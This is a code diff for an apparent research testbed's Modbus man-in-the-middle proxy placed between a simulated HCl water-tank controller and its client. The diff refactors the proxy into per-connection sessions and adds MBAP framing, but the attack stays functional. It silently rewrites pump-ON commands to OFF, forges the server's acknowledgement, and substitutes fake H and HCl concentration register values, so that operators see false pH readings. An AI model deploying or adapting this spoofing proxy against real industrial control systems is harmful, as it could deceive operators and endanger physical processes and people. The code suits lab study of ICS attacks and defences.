@@ -3,7 +3,7 @@
 
 usage::
 
-    python3 mitm_async.py
+    python3 mitm_async.py [--file dt.json] [--port 5030] [--server-port 5020]
 
 The corresponding server must be started before e.g. as:
     python3 waterTank.py dt.json
@@ -12,15 +12,21 @@ The corresponding client must be started after e.g. as:
     python3 client_async.py -c tcp -p 5030
 
 """
+import argparse
 import asyncio
+import collections
 import logging
 import sys
 import pdb
 import json
 import time
-import csv
 import math
 from tank_state import *
+from sim_clock import RealClock, get_clock
+from dt_config import ConfigWatcher
+from telemetry import TelemetryWriter, open_sink
+from log_setup import setup_logging, set_log_mode, HotPath
+from mbap_framer import MbapFramer
 
 try:
     import helper
@@ -38,8 +44,7 @@ from pymodbus.constants import Endian
 
 
 _logger = logging.getLogger(__file__)
-logging.basicConfig(filename='logs/mitm_async.log', level=logging.DEBUG)
-_logger.setLevel("DEBUG")
+hotPath = HotPath(_logger)
 
 # Host and Port information to create the MITM
 MITM_PROXY_HOST = "127.0.0.1"
@@ -47,41 +52,46 @@ MITM_PROXY_PORT = 5030
 ACTUAL_SERVER_HOST = "127.0.0.1"
 ACTUAL_SERVER_PORT = 5020
 
-global changeData
+# where the tank keeps its values; a holding register read may cover all of
+# them at once (the client's "image" acquisition mode)
+TANK_COIL_ADDRESS = 0
+TANK_INPUT_ADDRESS = 2
+TANK_REG_ADDRESS = 4
+
 global dtDict
 global inputRate, dilutionRate, update, trigger
 
-global spoofedTankState
-spoofedTankState = TankStateClass()
+global clock
+global telemetry
+clock = RealClock()
+telemetry = None
+
+# checked at most every CONFIG_CHECK_INTERVAL seconds, not on every packet
+CONFIG_CHECK_INTERVAL = 0.25
+global configWatcher
 
 
 def update_inputs():
     global dtDict, argFile, inputRate, dilutionRate, update, trigger
 
-    with open(argFile,'r') as rf:
-        dtDict = json.load(rf)
-
-
-    if 'inputRate' in dtDict:
-        inputRate = dtDict['inputRate'] # Rate of HCl entering tank
+    config = configWatcher.get()
+    if config is dtDict:
+        return
+    dtDict = config
 
-    assert inputRate > 0.0, "inputRate should be positive"
+    inputRate = dtDict.inputRate # Rate of HCl entering tank
+    dilutionRate = dtDict.dilutionRate # Rate of water entering tank
+    update = dtDict.update
+    trigger = dtDict.trigger    # anything but 0 or 1 is read as 0
 
-    if 'dilutionRate' in dtDict:
-        dilutionRate = dtDict['dilutionRate'] # Rate of water entering tank
+class MITMSession:
+    """Attack state of one client connection."""
+    def __init__(self):
+        self.count = 3              # responses left that seed the spoofed tank state
+        self.trigger_start = 0
+        self.changeData = False     # set once the client turns the HCl pump on while triggered
+        self.spoofedTankState = TankStateClass()
 
-    assert dilutionRate > 0.0, "dilutionRate should be positive"
-
-    if 'update' in dtDict:
-        update = dtDict['update']
-
-    assert 0.0 < update < 10.0, "update should be positive and less than 10 seconds"
-
-    if 'trigger' in dtDict:
-        trigger = dtDict['trigger']
-    
-    if (trigger != 0 and trigger != 1):
-        trigger = 0
 
 class MITMModbusProxy:
     def __init__(self, client_host, client_port, server_host, server_port):
@@ -91,7 +101,6 @@ class MITMModbusProxy:
         self.server_port = server_port
     
     async def proxy(self, reader, writer):
-        global changeData, trigger, spoofedTankState
         client_addr = writer.get_extra_info("peername")
         print(f">> Connected to client: {client_addr}")
 
@@ -99,18 +108,15 @@ class MITMModbusProxy:
             self.server_host, self.server_port
         )
         print(f">> Connected to server at {self.server_host}:{self.server_port}\n")
-        changeData = False
-        # spoofedTankState = TankStateClass()
-        count = 3
-        trigger_start = 0
+        session = self.start_session()
+        # a read may hold part of a frame or several pipelined ones
+        clientFramer = MbapFramer()
+        serverFramer = MbapFramer()
+        responses = collections.deque()
         try:
             while True:
                 update_inputs()
 
-                if trigger_start == 0 and trigger == 1:
-                    trigger_start = 1
-                    print("Starting MITM Attack")
-
                 data = await reader.read(2048)
 
                 # if True:
@@ -121,57 +127,30 @@ class MITMModbusProxy:
                 if not data:
                     break
 
-                parsed_data_map = self.parse_data(data)
-
-                # If the client is trying to turn on the HCl pump for the first time (i.e. changeData == False)
-                if parsed_data_map['function_code'] == 5 and parsed_data_map["coil_value"] == 0xFF00 and not changeData:
-                    changeData = True
-
-                changeData = False if trigger == 0 else changeData
-                # Manipulate the data if needed, else pass along the normal client data
-                manipulated_data = self.transform_client_data(parsed_data_map) if changeData else data
-                # print(manipulated_data)
-                # Forward to the server
-                server_writer.write(manipulated_data)
-                await server_writer.drain()
-
-                # Await the server's response
-                response = await server_reader.read(1024)
-                if not response:
-                    break
-                # print(response, "\n")
-                # exit()
-                # Manipulate the server's response data, else pass along the normal state to the client
-                parsed_response_map = self.parse_response(response)
-                
-                # If the spoofed tank state class hasn't been set up yet
-                if count != 0:
-                    if parsed_response_map["function_code"] == 0x01:
-                        spoofedTankState.set_client_cmd_coil(parsed_response_map["coils"][0])
-                    elif parsed_response_map["function_code"] == 0x02:
-                        spoofedTankState.set_hcl_input(parsed_response_map["coils"][0])
-                    elif parsed_response_map["function_code"] == 0x03:
-                        spoofedTankState.set_h_concentration(parsed_response_map["register_data"][0])
-                        spoofedTankState.set_hcl_concentration(parsed_response_map["register_data"][1])
-                    count = count - 1
-                
-                changeData = False if trigger == 0 else changeData
-                manipulated_data = self.transform_server_data(parsed_response_map) if changeData else response
-                
-                spoofed_state = spoofedTankState.get_tank_state()
-                if spoofed_state['registers'][0] > 0:
-                    current_time = time.time()
-                    pH_value = -math.log10(spoofed_state['registers'][0])
-                    pump_state = spoofed_state['inputs'][0]
-                    with open("data/mitm_ph_data.csv", mode='a', newline='') as f:
-                        ph_writer = csv.writer(f)
-                        ph_writer.writerow([current_time, pH_value,pump_state])
-                
-                # Write the response back to the client
-                writer.write(manipulated_data)
-                await writer.drain()
-                # if count == 0:
-                #     exit()
+                # each request is forwarded and answered before the next, so responses pair up with requests
+                for request in clientFramer.feed(data):
+                    manipulated_data, parsed_data_map = self.handle_request(request, session)
+                    # print(manipulated_data)
+                    # Forward to the server
+                    server_writer.write(manipulated_data)
+                    await server_writer.drain()
+
+                    # Await the server's response
+                    while not responses:
+                        response = await server_reader.read(1024)
+                        if not response:
+                            return
+                        responses.extend(serverFramer.feed(response))
+                    response = responses.popleft()
+                    # print(response, "\n")
+                    # exit()
+                    manipulated_data = self.handle_response(response, parsed_data_map, session)
+
+                    # Write the response back to the client
+                    writer.write(manipulated_data)
+                    await writer.drain()
+                    # if count == 0:
+                    #     exit()
         except Exception as e:
             print(f"Error: {e}")
         finally:
@@ -180,6 +159,63 @@ class MITMModbusProxy:
             writer.close()
             server_writer.close()
 
+    def start_session(self):
+        """The attack state of a newly connected client."""
+        return MITMSession()
+
+    def handle_request(self, data, session):
+        """The frame to forward to the server for one client request frame, and the parsed request."""
+        if session.trigger_start == 0 and trigger == 1:
+            session.trigger_start = 1
+            print("Starting MITM Attack")
+
+        parsed_data_map = self.parse_data(data)
+
+        # If the client is trying to turn on the HCl pump for the first time (i.e. changeData == False)
+        if parsed_data_map['function_code'] == 5 and parsed_data_map["coil_value"] == 0xFF00 and not session.changeData:
+            session.changeData = True
+
+        session.changeData = False if trigger == 0 else session.changeData
+        # Manipulate the data if needed, else pass along the normal client data
+        manipulated_data = self.transform_client_data(parsed_data_map, session) if session.changeData else data
+        return manipulated_data, parsed_data_map
+
+    def handle_response(self, response, parsed_data_map, session):
+        """The frame to send back to the client for the server's response to parsed_data_map."""
+        spoofedTankState = session.spoofedTankState
+        # Manipulate the server's response data, else pass along the normal state to the client
+        parsed_response_map = self.parse_response(response)
+
+        # If the spoofed tank state class hasn't been set up yet
+        if session.count != 0:
+            if parsed_response_map["function_code"] == 0x01:
+                spoofedTankState.set_client_cmd_coil(parsed_response_map["coils"][0])
+            elif parsed_response_map["function_code"] == 0x02:
+                spoofedTankState.set_hcl_input(parsed_response_map["coils"][0])
+            elif parsed_response_map["function_code"] == 0x03:
+                register_data = parsed_response_map["register_data"]
+                regOffset = self.window_offset(parsed_data_map, TANK_REG_ADDRESS, 2)
+                if regOffset is not None:
+                    spoofedTankState.set_h_concentration(register_data[regOffset])
+                    spoofedTankState.set_hcl_concentration(register_data[regOffset + 1])
+                coilOffset = self.window_offset(parsed_data_map, TANK_COIL_ADDRESS)
+                if coilOffset is not None:
+                    spoofedTankState.set_client_cmd_coil(register_data[coilOffset])
+                inputOffset = self.window_offset(parsed_data_map, TANK_INPUT_ADDRESS)
+                if inputOffset is not None:
+                    spoofedTankState.set_hcl_input(register_data[inputOffset])
+            session.count = session.count - 1
+
+        session.changeData = False if trigger == 0 else session.changeData
+        manipulated_data = self.transform_server_data(parsed_response_map, parsed_data_map, session) if session.changeData else response
+
+        if spoofedTankState.registers[H_CONCENTRATION] > 0 and telemetry is not None:
+            current_time = clock.now()
+            pH_value = -math.log10(spoofedTankState.registers[H_CONCENTRATION])
+            pump_state = spoofedTankState.inputs[HCL]
+            telemetry.write([current_time, pH_value, pump_state])
+        return manipulated_data
+
     async def start(self):
         server = await asyncio.start_server(
             self.proxy, self.client_host, self.client_port
@@ -189,17 +225,18 @@ class MITMModbusProxy:
         async with server:
             await server.serve_forever()
 
-    def transform_client_data(self, parsed_data_map):
-        global spoofedTankState
+    def transform_client_data(self, parsed_data_map, session):
+        spoofedTankState = session.spoofedTankState
         # Case 1: if the function_code is 'Write Single Register' and the value is 0
         if parsed_data_map['function_code'] == 5:
             client_coil_state = False if parsed_data_map["coil_value"] == 0x0000 else True
             spoofedTankState.set_client_cmd_coil(client_coil_state)
             if parsed_data_map["coil_value"] != 0x0000:
-                print("Tranformation client data")
+                hotPath("Tranformation client data")
                 old_value = parsed_data_map["coil_value"]
                 parsed_data_map["coil_value"] = 0x0000
-                print(f"\t**Spoofing client command: WRITE {old_value.to_bytes(2, byteorder='big')} --> WRITE {parsed_data_map['coil_value'].to_bytes(2, byteorder='big')}")
+                hotPath("\t**Spoofing client command: WRITE %s --> WRITE %s",
+                        old_value.to_bytes(2, byteorder='big'), parsed_data_map['coil_value'].to_bytes(2, byteorder='big'))
             else:
                 print(f"\tWARNING: WRITE {parsed_data_map['coil_value']} not supported by MITM code in transform_client_data()...")
         
@@ -213,26 +250,41 @@ class MITMModbusProxy:
 
         return manipulated_data
 
-    def transform_server_data(self, parsed_response_map):
-        global spoofedTankState
+    def window_offset(self, parsed_data_map, address, count=1):
+        """Index of `address` in the registers a read request asked for, None if outside."""
+        if parsed_data_map.get("function_code") != 3:
+            return None
+        offset = address - parsed_data_map["register_addr"]
+        if 0 <= offset and offset + count <= parsed_data_map["quantity_of_registers"]:
+            return offset
+        return None
+
+    def transform_server_data(self, parsed_response_map, parsed_data_map, session):
+        spoofedTankState = session.spoofedTankState
         # Case 1: Response to Client Case 1 (Write Register with value 0)
         if parsed_response_map["function_code"] == 5:
             if parsed_response_map["coil_value"] == 0x0000:
                 old_value = parsed_response_map["coil_value"]
                 new_value = 0xFF00
                 parsed_response_map["coil_value"] = new_value.to_bytes(2,byteorder='big')
-                print(f"\t**Spoofing server response: WRITE {old_value.to_bytes(2,byteorder='big')} --> WRITE {parsed_response_map['coil_value']}\n")
+                hotPath("\t**Spoofing server response: WRITE %s --> WRITE %s\n",
+                        old_value.to_bytes(2,byteorder='big'), parsed_response_map['coil_value'])
             else:
                 print(f"\tWARNING: WRITE {parsed_response_map['coil_value']} not supported by MITM code in transform_server_data()...")
 
         elif parsed_response_map['function_code'] == 0x03:
             # print("function code 0x03...need to update")
-            spoofedTankState.update_state(inputRate, dilutionRate, update)
-            spoofed_reg = spoofedTankState.get_concentrations()
-
-            old_reg_values = parsed_response_map["register_data"]
-            parsed_response_map["register_data"] = [register for register in spoofed_reg]
-            print(f"\t**Spoofing server response: {old_reg_values} changed to {parsed_response_map['register_data']}")
+            # only the H and HCl registers are spoofed, wherever they sit in the read window
+            regOffset = 0 if parsed_data_map is None else self.window_offset(parsed_data_map, TANK_REG_ADDRESS, 2)
+            if regOffset is not None:
+                spoofedTankState.update_state(inputRate, dilutionRate, update)
+                spoofed_reg = spoofedTankState.get_concentrations()
+
+                old_reg_values = parsed_response_map["register_data"]
+                new_reg_values = list(old_reg_values)
+                new_reg_values[regOffset:regOffset + 2] = spoofed_reg
+                parsed_response_map["register_data"] = new_reg_values
+                hotPath("\t**Spoofing server response: %s changed to %s", old_reg_values, parsed_response_map['register_data'])
         elif parsed_response_map['function_code'] in [0x02, 0x01]:
             # print("function code 0x02...need to update")
             # since the discrete_inputs and output_coils aren't used in client side calculations, there is no need to change them here.
@@ -345,12 +397,23 @@ class MITMModbusProxy:
         return manipulated_data
 
 if __name__ == "__main__":
-    with open("data/mitm_ph_data.csv", mode="w", newline="") as f:
-        writer = csv.writer(f)
-        writer.writerow(["Time (s)", "actual_pH", "HCl_pump_state"]) #csv header
-    argFile = 'dt.json'
+    parser = argparse.ArgumentParser(description="Run the man-in-the-middle proxy.")
+    parser.add_argument("--file", default='dt.json', help="config file, default dt.json")
+    parser.add_argument("--port", type=int, default=MITM_PROXY_PORT, help="port the client connects to")
+    parser.add_argument("--server-port", dest="server_port", type=int, default=ACTUAL_SERVER_PORT,
+                        help="port of the water tank")
+    parser.add_argument("--debug", action="store_true", help="run the event loop in asyncio debug mode")
+    cmdArgs = parser.parse_args()
+    setup_logging('logs/mitm_async.log')
+    argFile = cmdArgs.file
+    configWatcher = ConfigWatcher(argFile, min_interval=CONFIG_CHECK_INTERVAL)
+    dtDict = None
     update_inputs()
+    hotPath.production = set_log_mode(dtDict.logMode)
+    telemetry = TelemetryWriter(open_sink("data/mitm_ph_data", dtDict.telemetry))
+    clock = get_clock(dtDict)
     proxy = MITMModbusProxy(
-        MITM_PROXY_HOST, MITM_PROXY_PORT, ACTUAL_SERVER_HOST, ACTUAL_SERVER_PORT
+        MITM_PROXY_HOST, cmdArgs.port, ACTUAL_SERVER_HOST, cmdArgs.server_port
     )
-    asyncio.run(proxy.start())
+    # None leaves it to PYTHONASYNCIODEBUG
+    asyncio.run(proxy.start(), debug=cmdArgs.debug or None)